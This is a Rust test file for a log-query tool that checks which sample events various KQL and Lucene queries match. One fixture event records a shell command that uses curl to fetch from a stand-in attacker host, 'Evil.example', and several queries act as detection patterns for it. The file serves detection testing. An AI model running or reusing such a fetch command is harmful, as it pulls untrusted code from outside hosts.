//! KQL and Lucene over events: which of them a query finds.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use serde_json::Value;
use tempfile::TempDir;

use common::rulehound_with_input;

const EVENTS: &str = r#"{"_id":"1","_index":"logs-a","_source":{"@timestamp":"2026-01-01T00:00:01Z","event":{"category":"process","created":"2025-12-31T23:00:00Z"},"process":{"name":"sh","pid":7,"command_line":"/bin/sh -c \"curl http://Evil.example/x\""},"message":"Failed password for root from 10.0.0.1 port 22"}}
{"_id":"2","_index":"logs-a","_source":{"@timestamp":"2026-01-01T00:00:02Z","event":{"category":"file","created":"2025-10-31T23:00:00Z"},"process":{"name":"SH","pid":8},"message":["Accepted publickey","for root"],"source":{"ip":["10.0.0.5","192.168.1.1"]},"parts":[{"a":"1","b":"2"},{"a":"3","b":"4"}]}}
{"_id":"3","_index":"logs-b","_source":{"@timestamp":"2026-01-01T00:00:03Z","process.name":"sh*","process.pid":700,"my":{"own":0.99}}}
"#;

fn check(language: &str, cases: &[(&str, &[&str])]) {
    let folder = TempDir::new().unwrap();
    for (query, expected) in cases {
        let args = ["query", "--language", language, "--output", "ndjson", query, "-"];
        let run = rulehound_with_input(folder.path(), &args, EVENTS.as_bytes());
        assert_eq!(run.code, 0, "{query}: {}", run.stderr);
        let events = run.stdout.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let found: Vec<String> = events.map(|event| event["_id"].as_str().unwrap().to_owned()).collect();
        assert_eq!(found, *expected, "{query}");
    }
}

#[test]
fn kql_finds() {
    check(
        "kuery",
        &[
            // Keywords are compared whole, with regard to case; a quoted star is a star.
            ("process.name: sh", &["1"]),
            ("process.name: sh*", &["1", "3"]),
            ("process.name: \"sh*\"", &["3"]),
            ("process.name: (sh or SH) and not process.pid >= 8", &["1"]),
            ("process.command_line: *curl*Evil*", &["1"]),
            ("process.command_line: *curl*evil*", &[]),
            // Text by its words, in any case; a phrase lies within one value.
            ("message: \"failed PASSWORD\"", &["1"]),
            ("message: \"password failed\"", &[]),
            ("message: (root and accepted)", &["2"]),
            ("message: publickey port", &["1", "2"]),
            ("message: \"publickey for\"", &[]),
            ("message: pub*", &["2"]),
            ("process.command_line.text: evil.example", &["1"]),
            // `now` is the time of the event.
            ("event.created >= now-1d/d", &["1"]),
            ("event.created < now-1M", &["2"]),
            ("event.created: 2025-12-31", &["1"]),
            ("source.ip: 192.168.0.0/16", &["2"]),
            ("source.*: *", &["2"]),
            ("not source.ip: *", &["1", "3"]),
            // One object has both; the array as a whole has any.
            ("parts:{ a: 1 and b: 4 }", &[]),
            ("parts:{ a: 1 and b: 2 }", &["2"]),
            ("parts.a: 1 and parts.b: 4", &["2"]),
            ("my.own > 0.9", &["3"]),
            ("publickey", &["2"]),
            ("*", &["1", "2", "3"]),
        ],
    );
}

#[test]
fn lucene_finds() {
    check(
        "lucene",
        &[
            ("message:\"password failed\"~2", &["1"]),
            ("message:passwird~", &["1"]),
            ("message:passwird~0", &[]),
            ("+process.name:/sh.?/ -process.pid:[8 TO *]", &["1"]),
            ("process.pid:>=8", &["2", "3"]),
            ("_exists_:source.ip", &["2"]),
            ("process.name:sh OR process.name:SH AND message:root", &["2"]),
            (r"process.name:sh\*", &["3"]),
            ("evil.example OR publickey", &["1", "2"]),
            ("NOT message:*", &["3"]),
        ],
    );
}
